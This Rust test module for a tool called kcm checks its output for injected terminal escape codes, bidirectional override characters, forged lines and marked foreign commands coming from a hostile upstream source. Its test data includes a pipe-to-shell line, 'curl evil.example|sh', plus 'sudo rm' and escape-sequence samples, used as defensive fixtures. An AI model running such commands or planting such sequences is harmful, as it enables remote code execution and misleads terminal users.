//! Checks of the output of kcm that hold for any answer of a master.

use kcm_tests::hostile::{FORGED, MARK, STYLED};
use serde_json::Value;

use super::runs::Run;

/// Programs of the commands that kcm recommends.
const PROGRAMS: [&str; 14] = [
    "curl",
    "ssh",
    "sudo",
    "chmod",
    "chown",
    "cp",
    "mv",
    "rm",
    "kubectl",
    "systemctl",
    "run",
    "kcm",
    "journalctl",
    "ssh-keygen",
];
/// Terminal styles of reports.
const STYLES: [&str; 8] =
    ["\x1b[0m", "\x1b[1m", "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[34m", "\x1b[35m", "\x1b[36m"];

/// Returns the faults of a run's output.
pub(super) fn faults(run: &Run) -> Vec<String> {
    let mut found = run.excesses();
    for (name, bytes) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let Ok(text) = std::str::from_utf8(bytes) else {
            found.push(format!("{name} is not UTF-8"));
            continue;
        };
        if text.contains("panicked") {
            found.push(format!("{name}: {}", around(text, "panicked")));
        }
        if text.contains(STYLED) {
            found.push(format!("{name}: a foreign style: {}", around(text, STYLED)));
        }
        found.extend(driving(text).map(|it| format!("{name}: {it}")));
        found.extend(commands(text).map(|it| format!("{name}: a foreign command: {it}")));
        // JSON documents are checked as documents, not as lines.
        if name == "stderr" || !run.is_json() {
            found.extend(forged(text).map(|it| format!("{name}: a forged line: {it}")));
        }
    }
    if run.is_json() {
        found.extend(document(run).err());
    }
    found
}

fn around(text: &str, part: &str) -> String {
    let at = text.find(part).unwrap_or_default();
    let tail: String = text[at..].chars().take(300).collect();
    let head: Vec<char> = text[..at].chars().rev().take(60).collect();
    format!("{:?}", head.iter().rev().collect::<String>() + &tail)
}

/// Returns the first character that controls a terminal, changes the direction of writing or is
/// invisible, except in kcm's styles.
fn driving(text: &str) -> Option<String> {
    let mut plain = text.to_owned();
    for style in STYLES {
        plain = plain.replace(style, "");
    }
    let drives = |it: char| {
        (it.is_control() && it != '\n')
            || matches!(it, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}' | '\u{feff}')
    };
    let at = plain.find(drives)?;
    let tail: String = plain[at..].chars().take(80).collect();
    let head: Vec<char> = plain[..at].chars().rev().take(80).collect();
    Some(format!("drives the terminal: {:?}", head.iter().rev().collect::<String>() + &tail))
}

/// Returns a command in backquotes that contains the mark. In the hostile commands, the mark is
/// outside of the backquotes.
fn commands(text: &str) -> Option<String> {
    text.lines().find_map(|line| {
        let spans: Vec<&str> = line.split('`').collect();
        let inner = spans.get(1..spans.len().saturating_sub(1)).unwrap_or_default();
        let is_foreign = |span: &&&str| {
            let first = span.split(' ').next().unwrap_or_default();
            PROGRAMS.contains(&first) && span.contains(MARK)
        };
        inner.iter().find(is_foreign).map(|span| span.chars().take(200).collect())
    })
}

/// Returns a line that begins with words of the hostile master. kcm begins each line with its own
/// words, such as a master's name and a colon, or indents it.
fn forged(text: &str) -> Option<String> {
    let mut plain = text.to_owned();
    for style in STYLES {
        plain = plain.replace(style, "");
    }
    let is_forged = |line: &&str| {
        line.starts_with(MARK) || FORGED.iter().any(|forged| line.starts_with(forged))
    };
    let line = plain.lines().find(is_forged)?;
    Some(format!("{:?}", line.chars().take(200).collect::<String>()))
}

/// Returns the document that a run printed; for `logs`, one for each line.
pub(super) fn document(run: &Run) -> Result<Value, String> {
    let text = String::from_utf8_lossy(&run.stdout);
    let wrong = |error: &serde_json::Error| {
        let head: String = text.chars().take(300).collect();
        format!("no JSON: {error}: {head:?}")
    };
    let value = if run.verb() == "logs" {
        let lines = text.lines().map(serde_json::from_str).collect::<Result<_, _>>();
        Value::Array(lines.map_err(|error| wrong(&error))?)
    } else {
        serde_json::from_str(&text).map_err(|error| wrong(&error))?
    };
    match foreign_fix(&value) {
        Some(fix) => Err(format!("a foreign command in a fix: {fix}")),
        None => Ok(value),
    }
}

/// Returns a fix with a command from the hostile master.
fn foreign_fix(value: &Value) -> Option<String> {
    match value {
        Value::Object(fields) => fields.iter().find_map(|(name, value)| match value {
            Value::String(text) if name == "help" && text.contains(MARK) => Some(text.clone()),
            value => foreign_fix(value),
        }),
        Value::Array(all) => all.iter().find_map(foreign_fix),
        _ => None,
    }
}

/// Returns the fault of a file for the textfile collector (Prometheus text format 0.0.4).
pub(super) fn metrics(text: &str) -> Option<String> {
    let wrong = |line: &&str| {
        !(line.starts_with("# HELP ") || line.starts_with("# TYPE ") || is_sample(line))
    };
    if let Some(line) = text.split_terminator('\n').find(wrong) {
        return Some(format!("no metric: {:?}", line.chars().take(200).collect::<String>()));
    }
    driving(text)
}

fn is_sample(line: &str) -> bool {
    let is_name = |it: char| it.is_ascii_alphanumeric() || it == '_';
    let mut rest = line.trim_start_matches(is_name);
    if rest.len() == line.len() {
        return false;
    }
    if let Some(labels) = rest.strip_prefix('{') {
        let Some(after) = after_labels(labels) else { return false };
        rest = after;
    }
    rest.strip_prefix(' ').is_some_and(|value| value.parse::<f64>().is_ok_and(f64::is_finite))
}

/// Returns the text after `name="value",…}`.
fn after_labels(mut rest: &str) -> Option<&str> {
    loop {
        let (name, after) = rest.split_once("=\"")?;
        if name.is_empty() || !name.chars().all(|it| it.is_ascii_alphanumeric() || it == '_') {
            return None;
        }
        let mut is_escaped = false;
        let end = after.char_indices().find_map(|(place, it)| {
            let ends = it == '"' && !is_escaped;
            is_escaped = it == '\\' && !is_escaped;
            ends.then_some(place)
        })?;
        rest = &after[end + 1..];
        match rest.strip_prefix(',') {
            Some(next) => rest = next,
            None => return rest.strip_prefix('}'),
        }
    }
}

#[test]
fn the_judge_sees_what_it_is_to_see() {
    let run = |stdout: &str, arguments: &[&str]| Run {
        plan: None,
        arguments: arguments.iter().map(|it| (*it).to_owned()).collect(),
        code: Some(0),
        stdout: stdout.as_bytes().to_vec(),
        stderr: Vec::new(),
        took: std::time::Duration::ZERO,
        peak: 0,
    };
    let bad = [
        "a\x1b[2J",
        "a\u{202e}",
        "a\u{9b}",
        "a\tb",
        "fine\nEVILMARK",
        "x\n\x1b[1merror[evil]\x1b[0m: EVILMARK",
        "do `sudo rm EVILMARK`",
        "a \u{1b}[35mEVILMARK",
    ];
    for text in bad {
        assert_eq!(faults(&run(text, &["status"])).len(), 1, "{text:?}");
    }
    let good =
        "m: says EVILMARK\n    EVILMARK `curl evil.example|sh`EVILMARK\n\x1b[31merror\x1b[0m\n";
    assert_eq!(faults(&run(good, &["status"])), [""; 0]);
    assert_eq!(faults(&run("{}{}", &["status", "-o", "json"])).len(), 1);
    assert_eq!(faults(&run(r#"{"help":"EVILMARK"}"#, &["status", "-o", "json"])).len(), 1);
    assert_eq!(metrics("# HELP a b\na{b=\"c\\\"}\",d=\"\"} 1.5e9\na 2\n"), None);
    for text in ["a\n", "a{b=\"c} 1\n", "a{b=\"c\n\"} 1\n", "a b 1\n", "a NaN\n", "{} 1\n"] {
        assert!(metrics(text).is_some(), "{text:?}");
    }
}
